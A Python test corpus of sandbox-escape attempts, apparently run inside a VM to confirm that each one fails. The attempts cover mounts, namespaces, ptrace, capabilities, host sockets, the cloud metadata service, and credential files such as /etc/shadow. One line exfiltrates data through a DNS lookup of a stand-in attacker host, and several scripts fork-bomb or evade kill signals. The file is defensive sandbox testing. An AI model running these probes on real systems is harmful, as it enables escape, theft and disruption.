"""Attacks that must fail: one entry each, run inside a real vm by `test_attacks.py`.

An attack prints a last line that begins with HELD or BROKE. What it says of itself is only half of the
verdict: after each one the host is compared with what it was before. `control` says where the same code must
print BROKE, which shows that the attack is one: `plain` as an ordinary program of the host, `caged` there in
namespaces of its own with every capability in them, `root` as `plain` where the tests run as root, None where
there is no harmless way to show it.
"""
# ruff: noqa: E501  programs that are run inside stand here as they are

from dataclasses import dataclass, field
from typing import Literal

Control = Literal["plain", "caged", "root"]


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One attempt."""

    id: str
    tries: str
    code: str
    control: Control | None = None
    language: str = "python"
    limits: dict[str, float] = field(default_factory=dict)


PRELUDE = r"""
import ctypes, errno, fcntl, os, platform, resource, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBERS = @NUMBERS@
INSIDE = os.environ.get("USER") == "agent" and os.path.isdir("/run/code")
def call(name, *arguments):
    ctypes.set_errno(0)
    number = name if isinstance(name, int) else NUMBERS[name]
    known = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(number), *known), ctypes.get_errno()
def say(verdict, *why):
    print(verdict, *why, flush=True)
    os._exit(0)
def must_fail(name, *arguments):
    result, number = call(name, *arguments)
    say("BROKE", name, result) if result >= 0 else say("HELD", name, errno.errorcode[number])
def all_must_raise(**attempts):
    done = []
    for name, attempt in attempts.items():
        try:
            done.append((name, attempt()))
        except (OSError, ValueError):
            pass
    say("BROKE", done) if done else say("HELD")
def child():
    pid = os.fork()
    if pid == 0:
        time.sleep(1000)
    return pid
"""

_NEWUSER = 0x10000000


def _shell(test: str) -> str:
    return f"if {test}; then echo BROKE; else echo HELD; fi"


MOUNTS = (
    Attack(
        id="mount-a-file-system",
        tries="mount a tmpfs",
        code='must_fail("mount", b"x", b"/mnt", b"tmpfs", 0, 0)',
        control="caged",
    ),
    Attack(
        id="bind-mount",
        tries="bind a folder over another",
        code='must_fail("mount", b"/tmp", b"/mnt", 0, 4096, 0)',
        control="caged",
    ),
    Attack(
        id="remount-usr-writable",
        tries="make the host's programs writable",
        code='must_fail("mount", 0, b"/usr", 0, 32 | 4096, 0)',
    ),
    Attack(id="unmount-proc", tries="take masks away with /proc", code='must_fail("umount2", b"/proc", 2)'),
    Attack(
        id="unmount-a-mask",
        tries="take one mask away",
        code='must_fail("umount2", b"/proc/sys", 2)',
    ),
    Attack(id="pivot-root", tries="change the root", code='must_fail("pivot_root", b".", b".")'),
    Attack(
        id="chroot", tries="begin the classic way out of a root", code='must_fail("chroot", b"/tmp")', control="caged"
    ),
    Attack(
        id="new-mount-api", tries="mount by the newer calls", code='must_fail("fsopen", b"tmpfs", 0)', control="caged"
    ),
    Attack(
        id="clone-a-mount",
        tries="get a copy of a mount by descriptor",
        code='must_fail("open_tree", -100, b"/", 0x8001)',
        control="caged",
    ),
    Attack(
        id="change-mount-attributes",
        tries="drop read-only by mount_setattr",
        code='must_fail("mount_setattr", -100, b"/usr", 0, struct.pack("QQQQ", 0, 1, 0, 0), 32)',
    ),
)

NAMESPACES = (
    Attack(
        id="user-namespace",
        tries="become root of a user namespace",
        code=f'must_fail("unshare", {_NEWUSER})',
        control="plain",
    ),
    Attack(
        id="user-namespace-by-clone",
        tries="the same by clone",
        code=f"""
pid, number = call("clone", {_NEWUSER} | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
say("BROKE") if pid > 0 else say("HELD", number)""",
        control="plain",
    ),
    Attack(
        id="user-namespace-by-clone3",
        tries="the same by clone3, whose flags no filter sees",
        code=f"""
block = ctypes.create_string_buffer(struct.pack("8Q", {_NEWUSER}, 0, 0, 0, 17, 0, 0, 0))
pid, number = call("clone3", block, 64)
if pid == 0: os._exit(0)
say("BROKE") if pid > 0 else say("HELD", number)""",
        control="plain",
    ),
    Attack(
        id="unshare-program",
        tries="the same by the usual program",
        code=_shell("unshare -Ur true"),
        language="bash",
        control="plain",
    ),
    Attack(
        id="every-namespace",
        tries="any other namespace",
        code="""
flags = (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80)
made = [hex(f) for f in flags if call("unshare", f)[0] >= 0]
say("BROKE", made) if made else say("HELD")""",
        control="caged",
    ),
    Attack(
        id="enter-a-namespace",
        tries="enter a namespace by descriptor",
        code='must_fail("setns", os.open("/proc/self/ns/uts", os.O_RDONLY), 0)',
        control="caged",
    ),
    Attack(
        id="rewrite-the-id-map",
        tries="map other ids",
        code='all_must_raise(**{n: lambda n=n: os.write(os.open(f"/proc/self/{n}", os.O_WRONLY), b"0 0 1") for n in ("uid_map", "gid_map")})',
    ),
    Attack(
        id="host-name",
        tries="rename the machine",
        code='must_fail("sethostname", b"owned", 5)',
        control="caged",
    ),
)

KERNEL = (
    Attack(
        id="settings-of-the-kernel",
        tries="open any file below /proc/sys for writing, such as core_pattern",
        code="""
found = []
for folder, _, names in os.walk("/proc/sys"):
    for name in names:
        try:
            opened = os.open(os.path.join(folder, name), os.O_WRONLY)
            if os.fstat(opened).st_rdev != os.makedev(1, 3): found.append(name)  # a mask is /dev/null
            os.close(opened)
        except OSError: pass
say("BROKE", len(found), found[:20]) if found else say("HELD")""",
        control="root",
    ),
    Attack(
        id="magic-keys",
        tries="write to sysrq-trigger",
        code='all_must_raise(open=lambda: os.open("/proc/sysrq-trigger", os.O_WRONLY))',
    ),
    Attack(
        id="out-of-memory-score",
        tries="be the last to be killed when memory ends",
        code='all_must_raise(write=lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"))',
    ),
    Attack(
        id="control-groups",
        tries="find a control group's file system and its release_agent",
        code="""
seen = [l for l in open("/proc/self/mountinfo") if " cgroup" in l] + (["/sys"] if os.path.exists("/sys/fs") else [])
say("BROKE", seen) if seen else say("HELD")""",
        control="plain",
    ),
    Attack(
        id="kernel-log",
        tries="read the kernel's log",
        code="""
def log():
    result, number = call("syslog", 10, 0, 0)
    if result < 0: raise OSError(number)
all_must_raise(call=log, device=lambda: os.open("/dev/kmsg", os.O_RDONLY), proc=lambda: open("/proc/kmsg").read(1) or 1 / 0 if not INSIDE else os.read(os.open("/proc/kmsg", 0), 1) or int("empty"))""",
        control="root",
    ),
    Attack(
        id="device-node",
        tries="make a node of the host's memory and disk and open them",
        code="""
import stat
def node(kind, major, minor):
    os.mknod("node", kind | 0o666, os.makedev(major, minor))
    try: return os.path.exists("node")
    finally: os.unlink("node")
all_must_raise(mem=lambda: node(stat.S_IFCHR, 1, 1), disk=lambda: node(stat.S_IFBLK, 254, 0), kvm=lambda: node(stat.S_IFCHR, 10, 232))""",
        control="root",
    ),
    Attack(
        id="devices-by-name",
        tries="open a dangerous device",
        code="""
names = ("mem", "kmem", "port", "kvm", "fuse", "net/tun", "loop-control", "loop0", "vda", "sda", "kmsg", "uinput", "userfaultfd", "vhost-net", "console")
all_must_raise(**{n: lambda n=n: os.open("/dev/" + n, os.O_RDONLY | os.O_NONBLOCK) for n in names})""",
        control="root",
    ),
    Attack(
        id="keyring",
        tries="put a key where other vms could find it",
        code='must_fail("add_key", b"user", b"name", b"x", 1, -2)',
        control="plain",
    ),
    Attack(
        id="byte-code-in-the-kernel",
        tries="load a program into the kernel",
        code='must_fail("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(64)), 72)',
        control="root",
    ),
    Attack(
        id="io-uring",
        tries="make calls that no filter sees",
        code='must_fail("io_uring_setup", 4, ctypes.create_string_buffer(120))',
        control="plain",
    ),
    Attack(
        id="page-faults-by-hand",
        tries="hold the kernel in the middle of a call",
        code='must_fail("userfaultfd", 1)',
        control="plain",
    ),
    Attack(
        id="performance-counters",
        tries="measure others",
        code='must_fail("perf_event_open", ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0) + bytes(112)), 0, -1, -1, 0)',
    ),
    Attack(
        id="files-by-handle",
        tries="open a file past every folder",
        code="""
handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
must_fail("name_to_handle_at", -100, b"/", handle, ctypes.byref(ctypes.c_int()), 0)""",
        control="plain",
    ),
    Attack(
        id="watch-every-file",
        tries="watch a whole file system",
        code='must_fail("fanotify_init", 0x200, 0)',
        control="plain",
    ),
    Attack(
        id="other-door-32-bit",
        tries="make 32-bit calls, whose numbers mean other calls",
        code=r"""
import mmap
if platform.machine() != "x86_64": say("HELD")
pid = os.fork()
if pid == 0:
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    os._exit(0)
status = os.waitpid(pid, 0)[1]
say("HELD", status) if os.WIFSIGNALED(status) else say("BROKE", status)""",
    ),
    Attack(
        id="other-door-x32",
        tries="make x32 calls",
        code=r"""
if platform.machine() != "x86_64": say("HELD")
pid = os.fork()
if pid == 0:
    os._exit(0 if libc.syscall(ctypes.c_long(0x40000000 | 39)) > 0 else 7)
status = os.waitpid(pid, 0)[1]
say("HELD", status) if status else say("BROKE", status)""",
    ),
    Attack(
        id="set-the-clock",
        tries="change the host's time",
        code="all_must_raise(time=lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()))",
    ),
)

PROCESSES = (
    Attack(
        id="memory-of-pid-1",
        tries="read or write what the vm is held by",
        code="""
other = 1 if INSIDE else os.getppid()
names = ("environ", "maps", "mem", "auxv", "stack", "syscall", "fd", "root", "cwd", "exe", "ns/mnt", "io", "map_files")
def look(name):
    path = f"/proc/{other}/{name}"
    return os.readlink(path) if name in ("root", "cwd", "exe", "ns/mnt") else os.listdir(path) if name in ("fd", "map_files") else open(path, "rb").read(64)
all_must_raise(**{name: lambda name=name: look(name) for name in names})""",
        control="plain",
    ),
    Attack(
        id="trace",
        tries="trace another process",
        code='must_fail("ptrace", 16, child(), 0, 0)',
        control="plain",
    ),
    Attack(
        id="trace-pid-1",
        tries="trace what the vm is held by",
        code='must_fail("ptrace", 0x4206, 1, 0, 0)',
    ),
    Attack(
        id="read-another-memory",
        tries="read another process's memory without tracing it",
        code="""
here = ctypes.create_string_buffer(8)
one = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(here), 8))
must_fail("process_vm_readv", child(), one, 1, one, 1, 0)""",
        control="plain",
    ),
    Attack(
        id="take-a-descriptor",
        tries="take a descriptor out of another process",
        code='must_fail("pidfd_getfd", os.pidfd_open(child()), 1, 0)',
        control="plain",
    ),
    Attack(
        id="limits-of-others",
        tries="change the limits of another process",
        code="all_must_raise(prlimit=lambda: resource.prlimit(child(), resource.RLIMIT_NOFILE, (5, 5)) or 1)",
        control="plain",
    ),
    Attack(
        id="raise-own-limits",
        tries="raise the own limits",
        code="""
def more(kind):
    resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2)
    return True
kinds = {n: getattr(resource, n) for n in ("RLIMIT_CORE", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_MEMLOCK", "RLIMIT_RTPRIO")}
all_must_raise(**{n: lambda k=k: more(k) for n, k in kinds.items()})""",
        control="root",
    ),
    Attack(
        id="kill-pid-1",
        tries="end what the vm is held by",
        code="""
for number in range(1, 65):
    for target in (1, -1):
        if target == 1 or number not in (9, 19):
            signal.signal(number, signal.SIG_IGN) if number not in (9, 19, 32, 33) else None
            try: os.kill(target, number)
            except OSError: pass
say("HELD")""",
    ),
    Attack(
        id="kill-everything",
        tries="end everything it can see",
        code="child()\nos.kill(-1, 9)\nsay('HELD')",
    ),
    Attack(
        id="signal-the-host",
        tries="signal a process of the host by its number",
        code="all_must_raise(kill=lambda: os.kill(@PID@, 0) or 1, open=lambda: os.pidfd_open(@PID@))",
        control="plain",
    ),
    Attack(
        id="type-into-the-terminal",
        tries="push input into a terminal, also with high bits that a filter could miss",
        code="""
import pty, termios
master, slave = pty.openpty()
if not INSIDE and open("/proc/sys/dev/tty/legacy_tiocsti").read().strip() == "0": say("BROKE", "not on this host")
if os.fork() == 0:
    os.setsid(); fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    results = [call("ioctl", slave, request, ctypes.create_string_buffer(b"x")) for request in (0x5412, 0x100005412, -(1 << 32) | 0x5412)]
    say("BROKE", results) if any(r >= 0 for r, _ in results) else say("HELD", results)
os.wait()
os._exit(0)""",
        control="plain",
    ),
    Attack(
        id="terminal-of-the-host",
        tries="open the terminal of whoever started the vm",
        code='all_must_raise(tty=lambda: os.open("/dev/tty", os.O_RDWR), console=lambda: os.open("/dev/console", os.O_RDWR))',
    ),
    Attack(
        id="core-file",
        tries="leave a core file",
        code="""
try: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
except (OSError, ValueError): pass
if os.fork() == 0: os.kill(os.getpid(), signal.SIGSEGV)
status = os.wait()[1]
cores = [n for n in os.listdir(".") + os.listdir("/tmp") if "core" in n]
say("BROKE", cores) if os.WCOREDUMP(status) or cores else say("HELD")""",
    ),
)

PRIVILEGE = (
    Attack(
        id="become-root",
        tries="take another id",
        code="""
calls = {"uid": lambda: os.setuid(0), "gid": lambda: os.setgid(0), "res": lambda: os.setresuid(0, 0, 0),
    "groups": lambda: os.setgroups([0, 1]), "fs": lambda: 1 if libc.setfsuid(0) * 0 + libc.setfsuid(0) == 0 else int("no")}
all_must_raise(**{n: lambda f=f: f() or 1 for n, f in calls.items()})""",
        control="root",
    ),
    Attack(
        id="set-uid-programs",
        tries="gain an id or a capability from a set-uid program",
        code="""
for path in (p for p in os.listdir("/usr/bin") if os.stat("/usr/bin/" + p, follow_symlinks=False).st_mode & 0o6000):
    pid = os.posix_spawn("/usr/bin/" + path, [path, "--help"], {}, file_actions=[(os.POSIX_SPAWN_OPEN, n, "/dev/null", 2, 0) for n in (0, 1, 2)])
    try:
        status = dict(l.split(":", 1) for l in open(f"/proc/{pid}/status"))
        if status["Uid"].split() != ["1000"] * 4 or int(status["CapPrm"], 16): say("BROKE", path, status["Uid"])
    except OSError: pass
    os.waitpid(pid, 0)
say("HELD")""",
    ),
    Attack(
        id="capabilities-of-a-file",
        tries="give a program capabilities",
        code="""
import shutil
shutil.copy("/usr/bin/sleep", "own")
value = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)
try:
    all_must_raise(set=lambda: os.setxattr("own", "security.capability", value) or 1)
finally:
    os.unlink("own")""",
        control="caged",
    ),
    Attack(
        id="trusted-attributes",
        tries="set attributes that file systems trust",
        code='open("f", "w").close()\nall_must_raise(set=lambda: os.setxattr("f", "trusted.overlay.opaque", b"y") or 1)',
    ),
    Attack(
        id="raise-capabilities",
        tries="raise capabilities, also ambient ones",
        code="""
def raised(option, *arguments):
    if libc.prctl(option, *arguments) < 0: raise OSError(ctypes.get_errno())
    return True
def capset():
    header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    if libc.capset(header, ctypes.create_string_buffer(struct.pack("6I", *[0xFFFFFFFF] * 6))) < 0: raise OSError(1)
    return True
all_must_raise(ambient=lambda: raised(47, 2, 21, 0, 0), capset=capset, securebits=lambda: raised(28, 1 << 4 | 1, 0, 0, 0), keep=lambda: raised(24, 21, 0, 0, 0))""",
        control="caged",
    ),
    Attack(
        id="new-privileges",
        tries="take no_new_privs or the filter off",
        code="""
off = libc.prctl(38, 0, 0, 0, 0)
status = open("/proc/self/status").read()
say("HELD") if off < 0 and "NoNewPrivs:\\t1" in status and "Seccomp:\\t2" in status else say("BROKE", status)""",
        control="plain",
    ),
    Attack(
        id="programs-of-the-host",
        tries="change a program of the host in any way",
        code="""
target, folder = "/usr/bin/env", "/usr/bin"
all_must_raise(
    write=lambda: os.open(target, os.O_WRONLY), create=lambda: os.open(folder + "/owned", os.O_CREAT | os.O_WRONLY),
    mode=lambda: os.chmod(target, 0o777) or 1, owner=lambda: os.chown(target, 1000, 1000) or 1, time=lambda: os.utime(target) or 1,
    rename=lambda: os.rename(target, folder + "/owned") or 1, unlink=lambda: os.unlink(target) or 1, link=lambda: os.link(target, folder + "/owned") or 1,
    xattr=lambda: os.setxattr(target, "user.x", b"") or 1, truncate=lambda: os.truncate(target, 0) or 1, mkdir=lambda: os.mkdir(folder + "/owned") or 1,
    running=lambda: os.open("/proc/self/exe", os.O_WRONLY), held=lambda: os.open("/proc/1/exe", os.O_WRONLY),
    proc=lambda: os.open("/proc/self/root" + target, os.O_WRONLY))""",
    ),
    Attack(
        id="the-code-that-runs",
        tries="change its own code after it was decided on",
        code="""
name = __file__ if INSIDE else sys.argv[0]
all_must_raise(write=lambda: os.open(name, os.O_WRONLY), unlink=lambda: os.unlink(name) or 1, rename=lambda: os.rename(name, name + "x") or 1,
    mode=lambda: os.chmod(name, 0o777) or 1, create=lambda: os.open("/run/code/x", os.O_CREAT | os.O_WRONLY))""",
    ),
    Attack(
        id="writable-mounts",
        tries="write to a mount that is not the vm's own",
        code="""
found = []
for line in open("/proc/self/mountinfo"):
    place = line.split()[4]
    try:
        if os.path.isdir(place):
            os.close(os.open(place + "/.x", os.O_CREAT | os.O_WRONLY)); os.unlink(place + "/.x"); found.append(place)
    except OSError: pass
extra = set(found) - {"/", "/run", "/dev/shm"}
say("BROKE", extra) if extra else say("HELD", found)""",
        control="root",
    ),
)

NETWORK = (
    Attack(
        id="loopback-of-the-host",
        tries="reach a server of the host",
        code="""
def reach(address):
    socket.create_connection((address, @PORT@), 5).sendall(b"x"); return True
all_must_raise(**{a: lambda a=a: reach(a) for a in ("127.0.0.1", "0.0.0.0", "localhost", "@ADDRESS@")})""",
        control="plain",
    ),
    Attack(
        id="datagrams-to-the-host",
        tries="send a datagram to the host",
        code="""
sent = 0
for address in ("127.0.0.1", "0.0.0.0", "@ADDRESS@", "255.255.255.255", "224.0.0.1"):
    try: sent += socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (address, @UDP@))
    except OSError: pass
say("HELD" if INSIDE else "BROKE", sent)""",
        control="plain",
    ),
    Attack(
        id="abstract-sockets",
        tries="reach a server of the host that has no file",
        code='all_must_raise(connect=lambda: socket.socket(socket.AF_UNIX).connect("\\0@ABSTRACT@") or 1)',
        control="plain",
    ),
    Attack(
        id="sockets-of-the-host",
        tries="reach a server of the host by its file",
        code='all_must_raise(connect=lambda: socket.socket(socket.AF_UNIX).connect("@SOCKET@") or 1)',
        control="plain",
    ),
    Attack(
        id="well-known-sockets",
        tries="reach docker, D-Bus, an agent of keys, a display",
        code="""
places = ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/user", "/tmp/.X11-unix", "/run/systemd", "/run/snapd.socket")
found = [p for p in places if os.path.exists(p)] + [l for l in open("/proc/net/unix").read().splitlines()[1:] if l.strip()]
say("BROKE", found) if found else say("HELD")""",
    ),
    Attack(
        id="metadata-service",
        tries="reach the cloud's metadata or anything outside",
        code="""
def reach(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect((address, port)); return True
targets = (("169.254.169.254", 80), ("1.1.1.1", 53), ("100.100.100.200", 80), ("fd00:ec2::254", 80), ("2606:4700:4700::1111", 53), ("10.0.0.1", 80))
all_must_raise(**{a: lambda a=a, p=p: reach(a, p) for a, p in targets})""",
    ),
    Attack(
        id="names",
        tries="carry data out in a question for a name",
        code='all_must_raise(name=lambda: socket.getaddrinfo("secret.attacker.example", 80), meta=lambda: socket.getaddrinfo("metadata.google.internal", 80))',
    ),
    Attack(
        id="interfaces-and-routes",
        tries="find an interface or a route besides loopback",
        code="""
names = [name for _, name in socket.if_nameindex()]
routes = open("/proc/net/route").read().splitlines()[1:]
say("HELD") if names == ["lo"] and not routes else say("BROKE", names, routes)""",
        control="plain",
    ),
    Attack(
        id="raw-sockets",
        tries="see or forge packets",
        code="""
kinds = {"icmp": (2, 3, 1), "icmp6": (10, 3, 58), "raw": (2, 3, 255), "packet": (17, 3, 0), "packet-dgram": (17, 2, 0), "sock-packet": (2, 10, 0x300)}
all_must_raise(**{n: lambda k=k: socket.socket(*k) for n, k in kinds.items()})""",
        control="caged",
    ),
    Attack(
        id="strange-sockets",
        tries="open a kind of socket that few kernels' holes are far from",
        code="""
families = {n: (f, t, p) for n, f, t, p in (("alg", 38, 5, 0), ("vsock", 40, 1, 0), ("xdp", 44, 3, 0), ("tipc", 30, 5, 0), ("rds", 21, 5, 0), ("can", 29, 3, 1),
    ("bluetooth", 31, 3, 1), ("key", 15, 3, 2), ("smc", 43, 1, 0), ("sctp", 2, 1, 132), ("mptcp", 2, 1, 262), ("audit", 16, 3, 9), ("netfilter", 16, 3, 12), ("uevent", 16, 3, 15),
    ("generic", 16, 3, 16), ("xfrm", 16, 3, 6), ("crypto", 16, 3, 21), ("diag", 16, 3, 4))}
all_must_raise(**{n: lambda k=k: socket.socket(*k) for n, k in families.items()})""",
        control="plain",
    ),
    Attack(
        id="change-a-route",
        tries="configure the network",
        code="""
control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
all_must_raise(flags=lambda: fcntl.ioctl(control, 0x8914, struct.pack("16sh14x", b"lo", 0)), address=lambda: fcntl.ioctl(control, 0x8916, struct.pack("16sHH4s8x", b"lo", 2, 0, bytes([10, 0, 0, 1]))))""",
        control="caged",
    ),
    Attack(
        id="low-ports",
        tries="serve where only root may",
        code='all_must_raise(bind=lambda: socket.socket().bind(("127.0.0.1", 80)) or 1) if open("/proc/sys/net/ipv4/ip_unprivileged_port_start").read().strip() != "0" else say("HELD")',
        control="root",
    ),
)

SECRETS = (
    Attack(
        id="environment-of-the-host",
        tries="find a secret in any environment or command line",
        code="""
found = [n for n, v in os.environ.items() if "@SECRET@"[::-1] in v]
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            if "@SECRET@"[::-1].encode() in open(f"/proc/{pid}/{name}", "rb").read() : found.append((pid, name))
        except OSError: pass
say("BROKE", found) if found else say("HELD")""",
        control="plain",
    ),
    Attack(
        id="files-of-the-host",
        tries="read a file of the host by its name, by every root it can name",
        code="""
roots = ["", "/proc/1/root", "/proc/self/root", "/proc/thread-self/root", "/proc/1/cwd", "/.."]
all_must_raise(**{r or "plain": lambda r=r: open(r + "@CANARY@").read() for r in roots})""",
        control="plain",
    ),
    Attack(
        id="processes-of-the-host",
        tries="see a process that is not of this execution",
        code="""
def parent(pid): return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
own, others = {os.getpid()}, []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) not in own: others.append(pid)
say("BROKE", others) if others else say("HELD")""",
        control="plain",
    ),
    Attack(
        id="hidden-kernel-files",
        tries="read what the kernel tells of the host",
        code="""
names = ("cmdline", "config.gz", "interrupts", "iomem", "ioports", "kallsyms", "kcore", "key-users", "keys", "kmsg", "modules", "sched_debug", "slabinfo", "timer_list", "vmallocinfo", "sys/kernel/random/boot_id")
def peek(name):
    with open("/proc/" + name, "rb") as f: data = f.read(64)
    if not data: raise OSError
    return data
all_must_raise(**{n: lambda n=n: peek(n) for n in names})""",
        control="plain",
    ),
    Attack(
        id="accounts-of-the-host",
        tries="find the host's users, keys and machine id",
        code="""
places = ("/etc/shadow", "/etc/machine-id", "/etc/ssh", "/root/.ssh", "/root/.bashrc", "/var/lib/dbus/machine-id", "/etc/sudoers", "/home/" + "@USER@", "/var/log/wtmp", "/etc/fstab")
all_must_raise(**{p: lambda p=p: os.stat(p) for p in places})""",
        control="plain",
    ),
    Attack(
        id="hardware",
        tries="find the host's hardware",
        code='all_must_raise(sys=lambda: os.listdir("/sys/class"), pci=lambda: open("/proc/bus/pci/devices").read(1) or int("empty"), dmi=lambda: os.listdir("/sys/class/dmi"))',
        control="plain",
    ),
)

CORPUS = (*MOUNTS, *NAMESPACES, *KERNEL, *PROCESSES, *PRIVILEGE, *NETWORK, *SECRETS)

LEFT_BEHIND = {
    "setsid": "setsid sleep 1000 & setsid -f sleep 1000",
    "double-fork": "((sleep 1000 &) &) ; (setsid bash -c '(sleep 1000 &)' &)",
    "nohup-and-disown": "nohup sleep 1000 >/dev/null 2>&1 & disown -a",
    "stopped": "sleep 1000 & kill -STOP $!; setsid bash -c 'kill -STOP $$' &",
    "ignores-every-signal": "setsid bash -c 'trap \"\" $(seq 1 64 | grep -v -e 9 -e 19 -e 32 -e 33); while :; do sleep 1000; done' &",
    "forks-for-ever": """python3 - <<'END' &
import os, signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
for _ in range(6):
    if os.fork() == 0: break
os.setsid()
while True:
    if os.fork(): os._exit(0)
END
sleep 0.2""",
    "stops-every-next-pid": """python3 - <<'END' &
import os, signal
os.setsid()
while True:
    me = os.fork()
    if me == 0: os._exit(0)
    os.wait()
    for pid in range(me + 1, me + 40):
        try: os.kill(pid, signal.SIGSTOP)
        except OSError: pass
END
sleep 0.2""",
    "zombies": "python3 -c 'import os\nfor _ in range(100):\n    if os.fork() == 0: os._exit(0)\nos.fork() or __import__(\"time\").sleep(1000)'",
    "threads": "python3 -c 'import threading, time\nfor _ in range(50): threading.Thread(target=time.sleep, args=(1000,)).start()' &\nsleep 0.2",
    "holds-the-output-open": "(exec sleep 1000) & exec 5>&1; sleep 1000 >&5 2>&1 &",
    "hundreds": "for i in $(seq 150); do sleep 1000 & done",
    "undumpable": "python3 -c 'import ctypes, os, time\nos.fork(); ctypes.CDLL(None).prctl(4, 0); time.sleep(1000)' &\nsleep 0.1",
    "first-thread-ended": """python3 - <<'END' &
import ctypes, platform, os, threading, time
os.setsid(); libc = ctypes.CDLL(None); libc.prctl(4, 0)
threading.Thread(target=time.sleep, args=(1000,)).start()
libc.syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)
END
sleep 0.2""",
    "sibling-of-its-parent": """exec python3 - <<'END'
import ctypes, platform, time
number = {"x86_64": 56, "aarch64": 220}[platform.machine()]
if ctypes.CDLL(None).syscall(number, 0x8000 | 17, 0, 0, 0, 0) == 0: time.sleep(1000)
END""",
    "vfork": 'python3 -c \'import subprocess\nfor _ in range(9): subprocess.Popen(["sleep", "1000"], start_new_session=True)\'',
}
"""Programs that try to outlive their execution."""
